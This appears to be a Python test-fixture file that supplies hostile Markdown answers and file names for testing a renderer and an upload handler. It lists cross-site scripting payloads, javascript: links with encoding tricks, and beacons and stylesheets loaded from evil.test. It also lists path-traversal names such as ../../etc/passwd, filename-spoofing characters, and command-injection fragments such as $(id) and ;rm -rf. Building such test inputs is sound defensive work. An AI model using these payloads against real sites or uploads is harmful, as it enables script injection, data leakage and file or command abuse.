"""What hostile models, documents and uploaders would send: Markdown answers and file names."""

import random

PNG = "data:image/png;base64,iVBORw0KGgo="
ANSWERS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.test/beacon.png'>",
    "![a](http://evil.test/beacon.png)",
    "![a][pic]\n\n[pic]: http://evil.test/beacon.png",
    "[![a](http://evil.test/in.png)](http://evil.test/out)",
    f"![a]({PNG})",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](\x01javascript:alert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](file:///etc/passwd)",
    "[a](//evil.test/x)",
    "[a](/api/session)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[1]: javascript:alert(1)\n\n[1] and [a][1]",
    '[a](http://evil.test/" onclick="alert(1))',
    '[a](http://evil.test "x\' onmouseover=alert(1) y=\\"")',
    "<svg onload=alert(1)><animate onbegin=alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.test/x.css'; body{background:url(http://evil.test/x)}</style>",
    "<link rel=stylesheet href=http://evil.test/x.css><base href=http://evil.test/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.test/x></object><embed src=http://evil.test/x>",
    "<form action=http://evil.test/><input name=token><button formaction=javascript:alert(1)>go</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<video src=http://evil.test/x poster=http://evil.test/y></video><audio src=http://evil.test/z>",
    "<div style='position:fixed;inset:0;background:url(http://evil.test/x)'>over</div>",
    "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\n[1] <b>\n```',
    "`</code><script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href=http://evil.test onclick=alert(1) id=x name=y class=citation data-number=1>1</a>",
    '<button class="citation" data-number="1" onfocus=alert(1) autofocus>1</button>',
    "\u202etxt.exe\u202c pay \u2066here\u2069 \ufeff\x00\x1b[31m\u2028\U000e0041\U000e0042",
    "| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |\n|:-:|--:|\n| <script>x</script> | ![b](//e/x) |",
    "# <script>alert(1)</script>\n\n> <iframe src=http://evil.test>\n\n1. <svg/onload=alert(1)>",
    "[" * 3000 + "](" * 3000,
    "<scr<script>ipt>alert(1)</scr</script>ipt> <<img src=x onerror=alert(1)//>",
]
_PARTS = [
    *("..", ".", "/", "\\", "etc", "passwd", "uploads", "\x00", "\n", "\r", "\t", "\u202e", "\u2066", "\ufeff"),
    *("\u2028", "\ud800", "fdp.exe", "C:", "~", "%2e%2e%2f", "CON", "nul", "lpt1", "$(id)", "`id`", ";rm -rf", "-rf"),
    *("|", "*", "?", "<b>", '"', "'", ":", " ", "#row-1", "&amp;", "é", "e\u0301", "漢字", "🎉", "a" * 300),
    *(".pdf", ".md", ".php"),
]
_NAMES = [
    *(
        "",
        " ",
        ".",
        "..",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/shadow",
        "C:\\a.txt",
        "\\\\host\\share",
    ),
    *("CON", "con.txt", "NUL.", "COM1.pdf", "a\x00.pdf", "\u202efdp.exe", "a" * 1000 + ".pdf", "漢" * 200 + ".md"),
    *("....//....//x", ".htaccess", "index.sqlite", "lock", "-", "--help", "a.\u202e\u202e", "\ud800.txt", "x.tar.gz"),
]


def names(count=300):
    """File names that try to leave their folder, to hide what they are, or to break who shows them."""
    chance = random.Random(5)
    made = ["".join(chance.choices(_PARTS, k=chance.randint(1, 7))) for _ in range(count - len(_NAMES))]
    return [*_NAMES, *made]
